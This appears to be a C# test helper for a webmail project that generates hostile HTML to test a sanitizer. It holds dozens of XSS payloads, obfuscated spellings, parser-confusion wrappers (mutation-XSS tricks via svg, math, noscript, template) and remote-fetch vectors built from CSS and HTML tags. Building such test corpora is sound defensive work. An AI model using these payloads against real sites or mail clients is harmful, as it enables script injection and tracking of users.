namespace Webmail.EndToEnd.Tests.Hostile;

/// <summary>Attacks made of pieces: what runs, how it is written, and what stands around it to mislead a parser.</summary>
internal static class GeneratedVectors
{
    private static readonly string[] Runs =
    [
        "<script>pwned()</script>", "<img src=x onerror=pwned()>", "<svg onload=pwned()></svg>", "<svg><script>pwned()</script></svg>", "<body onload=pwned()>",
        "<input autofocus onfocus=pwned()>", "<details open ontoggle=pwned()>d</details>", "<video src=x onerror=pwned()></video>", "<audio src=x onerror=pwned()></audio>",
        "<iframe src=\"javascript:parent.pwned()\"></iframe>", "<iframe srcdoc=\"<script>parent.pwned()</script>\"></iframe>", "<object data=\"javascript:parent.pwned()\"></object>",
        "<embed src=\"javascript:parent.pwned()\">", "<marquee onstart=pwned()>m</marquee>", "<style onload=pwned()></style>", "<link rel=stylesheet href=x onerror=pwned()>",
        "<a href=\"javascript:pwned()\" id=go>a</a>", "<form action=\"javascript:pwned()\"><button>b</button></form>", "<svg><animate onbegin=pwned() attributeName=x dur=1s /></svg>",
        "<math><mi xlink:href=\"javascript:pwned()\">m</mi></math>", "<svg><image href=x onerror=pwned()></image></svg>", "<source onerror=pwned()><video><source src=x onerror=pwned()></video>",
        "<b tabindex=0 autofocus onfocus=pwned()>b</b>", "<script src=\"data:text/javascript,pwned()\"></script>", "<meta http-equiv=refresh content=\"0;url=javascript:pwned()\">",
    ];

    private static readonly Func<string, string>[] Spellings =
    [
        static v => v,
        static v => v.ToUpperInvariant().Replace("PWNED", "pwned", StringComparison.Ordinal).Replace("PARENT", "parent", StringComparison.Ordinal),
        static v => v.Replace(' ', '/'),
        static v => v.Replace(" on", "\n\ton", StringComparison.Ordinal).Replace("=pwned", "\n=\npwned", StringComparison.Ordinal),
        static v => v.Replace("pwned", "&#112;wned", StringComparison.Ordinal).Replace("javascript:", "java&Tab;script&colon;", StringComparison.Ordinal),
        static v => v.Replace("javascript:", "\u0001 jAvA\nscript:", StringComparison.Ordinal).Replace("=pwned()", "=`pwned()`", StringComparison.Ordinal),
        static v => v.Replace("script", "scr\0ipt", StringComparison.Ordinal).Replace(" on", " o\0n", StringComparison.Ordinal),
        static v => v.Replace(">", "", StringComparison.Ordinal) + " ",
    ];

    private static readonly string[] Surroundings =
    [
        "{0}", "<p><b><i>{0}</b></p></i>", "<table><tr>{0}<td>x</table>", "<svg><style>{0}</style></svg>", "<svg></p><style><a id=\"</style>{0}\">",
        "<math><mtext><table><mglyph><style>{0}</style></mglyph></table></mtext></math>", "<noscript><p title=\"</noscript>{0}\"></noscript>", "<title><b title=\"</title>{0}\"></title>",
        "<textarea><b title=\"</textarea>{0}\"></textarea>", "<!-- --!>{0}<!-- -->", "<!-->{0}-->", "<template>{0}</template>", "<select><option><template>{0}</template></select>",
        "<a title='\">{0}'>x</a>", "<a title=\"&quot;>{0}\">x</a>", "<xmp><p title=\"</xmp>{0}\"></xmp>", "<form><math><mtext></form><form><mglyph><style></math>{0}</style></form>",
        "<noembed><b title=\"</noembed>{0}\"></noembed>", "<iframe><b title=\"</iframe>{0}\"></iframe>", "<math><annotation-xml encoding=\"text/html\"><style></annotation-xml>{0}</style></math>",
        "<svg><desc><style></desc></svg>{0}</style>", "<svg><![CDATA[</svg>{0}]]></svg>", "<style><!--</style>{0}--></style>", "<div><template shadowrootmode=open>{0}</template></div>", "</body></html>{0}",
        "<ruby><rt><table><caption><button><form>{0}", "<frameset></frameset>{0}", "<a href='https://a.example'><table><a>{0}</table>", "<math><mi><style></math>{0}</style>", "<plaintext>{0}",
    ];

    private static readonly string[] Fetches =
    [
        "<img src=\"//H/{0}\">", "<img srcset=\"//H/{0} 1x\">", "<link rel=stylesheet href=\"//H/{0}\">", "<link rel=preload as=image href=\"http://H/{0}\">", "<link rel=dns-prefetch href=\"//H\">",
        "<link rel=preconnect href=\"https://H\">", "<iframe src=\"https://H/{0}\"></iframe>", "<object data=\"http://H/{0}\"></object>", "<embed src=\"//H/{0}\">", "<video poster=\"//H/{0}\" src=\"//H/{0}v\"></video>",
        "<audio src=\"//H/{0}\" autoplay></audio>", "<body background=\"//H/{0}\">", "<table background=\"//H/{0}\"><td background=\"//H/{0}d\">x</table>", "<input type=image src=\"//H/{0}\">",
        "<meta http-equiv=refresh content=\"0;url=http://H/{0}\">", "<svg><image href=\"//H/{0}\" /></svg>", "<svg><use href=\"//H/{0}#x\" /></svg>", "<svg><filter id=f><feImage href=\"//H/{0}\" /></filter><rect filter=url(#f) width=9 height=9 /></svg>",
        "<picture><source srcset=\"//H/{0}\"><img src=x></picture>", "<script src=\"//H/{0}\"></script>", "<base href=\"http://H/\"><img src=\"{0}\">", "<image src=\"//H/{0}\">", "<frameset><frame src=\"//H/{0}\"></frameset>",
        "<style>@import \"//H/{0}\";</style>", "<style>@font-face{{font-family:x;src:url(//H/{0})}}*{{font-family:x}}</style>x", "<video><track default src=\"//H/{0}\"></video>",
    ];

    private static readonly string[] Urls =
    [
        "url(//H/{0})", "url('http://H/{0}')", "URL( \"//H/{0}\" )", "image-set(\"//H/{0}\" 1x)", "-webkit-image-set(url(//H/{0}) 1x)", "\\75rl(//H/{0})", "u\\72 l(//H/{0})", "url(//H/{0}", "url/**/(//H/{0})",
        "var(--x,url(//H/{0}))", "-webkit-cross-fade(url(//H/{0}),url(//H/{0}b),50%)", "red url(//H/{0})", "linear-gradient(red,red),url(//H/{0})", "image(\"//H/{0}\")", "src(\"//H/{0}\")", "url(//H/{0})!important",
    ];

    private static readonly string[] Properties =
    [
        "background", "background-image", "border-image", "border-image-source", "list-style", "list-style-image", "cursor", "content", "mask", "-webkit-mask-image", "filter", "clip-path", "shape-outside", "--x",
        "border-bottom", "grid-template", "font", "color",
    ];

    /// <summary>What would run: every surrounding with every attack, and every spelling with both, but not all of the product.</summary>
    public static IEnumerable<string> Running() => Surroundings.Index().SelectMany(static surrounding =>
        Runs.Index().Select(run => Around(surrounding.Item, Spellings[(surrounding.Index + run.Index) % Spellings.Length](run.Item))));

    /// <summary>What would fetch something from <paramref name="host"/>.</summary>
    public static IEnumerable<string> Fetching(string host)
    {
        var n = 0;
        foreach (var spelling in Spellings)
        {
            foreach (var fetch in Fetches)
                yield return Here(spelling(fetch), host, n++);
        }

        foreach (var surrounding in Surroundings)
        {
            foreach (var fetch in Fetches.Where((_, i) => i % 5 == n % 5))
                yield return Here(Around(surrounding, fetch), host, n++);
        }

        foreach (var property in Properties)
        {
            foreach (var url in Urls)
            {
                yield return Here($"<style>p,.a{{{{position:fixed;{property}:{url}}}}}</style><p class=a>x</p>", host, n++);
                yield return Here($"<p style='{property}:{url.Replace('\'', '"')}'>x</p>", host, n++);
            }
        }
    }

    private static string Around(string surrounding, string inner) => surrounding.Replace("{0}", inner, StringComparison.Ordinal);

    private static string Here(string vector, string host, int number) => vector.Replace("{0}", $"g{number}", StringComparison.Ordinal)
        .Replace("{{", "{", StringComparison.Ordinal).Replace("}}", "}", StringComparison.Ordinal).Replace("H/", host + "/", StringComparison.Ordinal).Replace("//H", "//" + host, StringComparison.Ordinal);
}
